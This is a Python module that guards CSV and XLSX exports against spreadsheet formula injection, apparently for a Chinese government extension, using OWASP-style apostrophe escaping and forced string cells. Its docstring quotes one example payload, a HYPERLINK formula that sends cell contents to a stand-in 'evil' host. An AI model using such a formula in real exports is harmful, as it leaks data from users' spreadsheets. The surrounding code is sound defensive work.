"""The one writer of tables for download (CSV and XLSX): every cell stays data, never a formula.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return before one) as a formula: a title ``=HYPERLINK("http://evil/?"&A1, "点击")``
in an export would run in the Bureau's Excel. So every export of the extension goes through
this module (a test fails on any other ``csv.writer`` or openpyxl ``Workbook``):

* CSV: a text cell that would start a formula is prefixed with an apostrophe, as OWASP
  recommends ("CSV injection"); :func:`csv_unescape` removes it again on import, so a
  department's export imports unchanged. The fullwidth forms (``＝＋－＠``) are treated the same,
  as some Chinese spreadsheet programs accept them for a formula too.
* XLSX: every text cell is stored as a string cell (openpyxl would store ``"=…"`` as a formula);
  the text is written exactly as it is.

Numbers, booleans and empty cells are written as they are: they are never formulas.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

Row = Sequence[Any]

# The characters a spreadsheet reads as the start of a formula (OWASP: = + - @ tab CR), and
# their fullwidth forms.
FORMULA_START = frozenset("=+-@\t\r＝＋－＠")
_QUOTE = "'"


def _starts_formula(text: str) -> bool:
    """True when the text, after leading spaces, begins like a formula."""
    return text.lstrip(" ")[:1] in FORMULA_START


def csv_cell(value: Any) -> Any:
    """One CSV cell: text that would start a formula gets an apostrophe in front."""
    if isinstance(value, str) and _starts_formula(value):
        return _QUOTE + value
    return value


def csv_unescape(text: str) -> str:
    """The text :func:`csv_cell` was given (for reading our own exports back)."""
    if text.startswith(_QUOTE) and _starts_formula(text[1:]):
        return text[1:]
    return text


def csv_bytes(rows: Iterable[Row], bom: bool = True) -> bytes:
    """Rows as UTF-8 CSV; with a BOM by default, so Excel opens the Chinese intact."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")


def _xlsx_cells(sheet: Any, row: Row) -> list[Any]:
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in row:
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str) and value:
            cell.data_type = "s"  # text, never a formula, whatever it starts with
        cells.append(cell)
    return cells


def xlsx_bytes(sheets: Mapping[str, Iterable[Row]]) -> bytes:
    """A workbook with one sheet per ``{name: rows}``, in the mapping's order."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(_xlsx_cells(sheet, row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
